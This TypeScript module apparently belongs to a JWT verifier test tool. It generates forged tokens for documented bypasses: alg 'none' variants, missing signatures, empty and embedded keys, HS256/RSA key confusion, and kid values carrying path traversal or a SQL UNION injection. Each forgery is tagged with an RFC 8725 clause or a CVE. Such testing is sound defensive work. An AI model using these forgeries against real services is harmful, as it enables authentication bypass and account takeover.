import { createHmac, generateKeyPairSync, type KeyObject, randomBytes, sign } from "node:crypto";
import { type CompactJwt, encoded, type Json } from "./compact.ts";
import type { PublicKey } from "./keys.ts";

/** A way to make a token that nobody who verifies lets pass. */
export interface Signer {
  /** In words: `alg "none", no signature`. */
  readonly does: string;
  /** Sections of RFC 8725 that it offends against. */
  readonly clause: string;
  forge(genuine: CompactJwt, claims: Json): string;
}

const text = (header: Json, claims: Json) => `${encoded(header)}.${encoded(claims)}`;
const hmac = (key: string | Buffer, input: string) =>
  createHmac("sha256", key).update(input).digest("base64url");

/** Tokens without a signature (RFC 8725 §3.1, CVE-2015-9235), in the spellings that naive comparisons miss. */
function unsigned(): Signer[] {
  const spelled = ["none", "None", "NONE", "nOnE"].map((alg) => ({
    does: `alg "${alg}", no signature`,
    clause: "RFC 8725 §3.1",
    forge: ({ header }: CompactJwt, claims: Json) => `${text({ ...header, alg }, claims)}.`,
  }));
  return [
    ...spelled,
    {
      does: 'alg "none", the old signature',
      clause: "RFC 8725 §3.1",
      forge: ({ header, parts }, claims) => `${text({ ...header, alg: "none" }, claims)}.${parts[2]}`,
    },
    {
      does: "the signature left out",
      clause: "RFC 8725 §3.2",
      forge: ({ header }, claims) => `${text(header, claims)}.`,
    },
  ];
}

/** Signed, but with a key that nobody gave out. */
function otherKeys(): Signer[] {
  return [
    {
      does: "signed with another key",
      clause: "RFC 8725 §3.2",
      forge: ({ header }, claims) => {
        const input = text(header, claims);
        return `${input}.${signedAs(String(header.alg), input)}`;
      },
    },
    {
      does: "HS256 with an empty key",
      clause: "RFC 8725 §3.5",
      forge: ({ header }, claims) => {
        const input = text({ ...header, alg: "HS256" }, claims);
        return `${input}.${hmac("", input)}`;
      },
    },
    {
      does: "signed with a key of its own in its header (CVE-2018-0114)",
      clause: "RFC 8725 §3.5",
      forge: ({ header }, claims) => {
        const { publicKey, privateKey } = generateKeyPairSync("rsa", { modulusLength: 2048 });
        const { kid: _, ...rest } = header;
        const input = text({ ...rest, alg: "RS256", jwk: publicKey.export({ format: "jwk" }) }, claims);
        return `${input}.${sign("sha256", Buffer.from(input), privateKey).toString("base64url")}`;
      },
    },
  ];
}

/** A signature of the right kind by a key that was made just now. */
function signedAs(alg: string, input: string): string {
  const data = Buffer.from(input);
  if (alg.startsWith("RS") || alg.startsWith("PS")) {
    const { privateKey } = generateKeyPairSync("rsa", { modulusLength: 2048 });
    return sign(`sha${alg.slice(2)}`, data, rsaKey(alg, privateKey)).toString("base64url");
  }
  if (alg.startsWith("ES")) {
    const namedCurve = { ES256: "P-256", ES384: "P-384", ES512: "P-521" }[alg] ?? "P-256";
    const { privateKey } = generateKeyPairSync("ec", { namedCurve });
    return sign(`sha${alg.slice(2)}`, data, { key: privateKey, dsaEncoding: "ieee-p1363" }).toString(
      "base64url",
    );
  }
  if (alg === "EdDSA")
    return sign(null, data, generateKeyPairSync("ed25519").privateKey).toString("base64url");
  const digest = /^HS(256|384|512)$/.exec(alg)?.[1] ?? "256";
  return createHmac(`sha${digest}`, randomBytes(64)).update(input).digest("base64url");
}

function rsaKey(alg: string, key: KeyObject) {
  // RSASSA-PSS with a salt as long as the digest (RFC 7518 §3.5).
  return alg.startsWith("PS") ? { key, padding: 6, saltLength: Number(alg.slice(2)) / 8 } : { key };
}

/** HS256 with the public key as its secret: verifies where algorithm and key are chosen apart (CVE-2016-5431). */
function confused(keys: readonly PublicKey[]): Signer[] {
  return keys.flatMap(({ kid, spellings }) =>
    spellings.map(({ name, bytes }) => ({
      does: `HS256 with the public key as its secret (${name})`,
      clause: "RFC 8725 §3.1",
      forge: ({ header }: CompactJwt, claims: Json) => {
        const input = text({ ...header, alg: "HS256", ...(kid === undefined ? {} : { kid }) }, claims);
        return `${input}.${hmac(bytes, input)}`;
      },
    })),
  );
}

/** A key id that is used as a path or in a query names a key that the attacker knows (RFC 8725 §3.10). */
function keyIds(): Signer[] {
  const tricks = [
    { kid: "../../../../../../../../dev/null", key: "", what: "a path to an empty file" },
    { kid: "/dev/null", key: "", what: "/dev/null" },
    { kid: "deadheat' UNION SELECT 'deadheat", key: "deadheat", what: "a piece of SQL" },
    { kid: "deadheat-unknown", key: randomBytes(32).toString("hex"), what: "unknown" },
  ];
  return tricks.map(({ kid, key, what }) => ({
    does: `kid ${what === "unknown" ? "that is unknown" : `is ${what}`}, signed to match`,
    clause: "RFC 8725 §3.10",
    forge: ({ header }, claims) => {
      const input = text({ ...header, alg: "HS256", kid }, claims);
      return `${input}.${hmac(key, input)}`;
    },
  }));
}

/** Every way, the plainest first. */
export function signers(keys: readonly PublicKey[]): Signer[] {
  return [...unsigned(), ...otherKeys(), ...confused(keys), ...keyIds()];
}

/** Other claims under the signature of the genuine ones. */
export const underOldSignature: Signer = {
  does: "claims changed under the old signature",
  clause: "RFC 8725 §3.2",
  forge: ({ parts }, claims) => `${parts[0]}.${encoded(claims)}.${parts[2]}`,
};
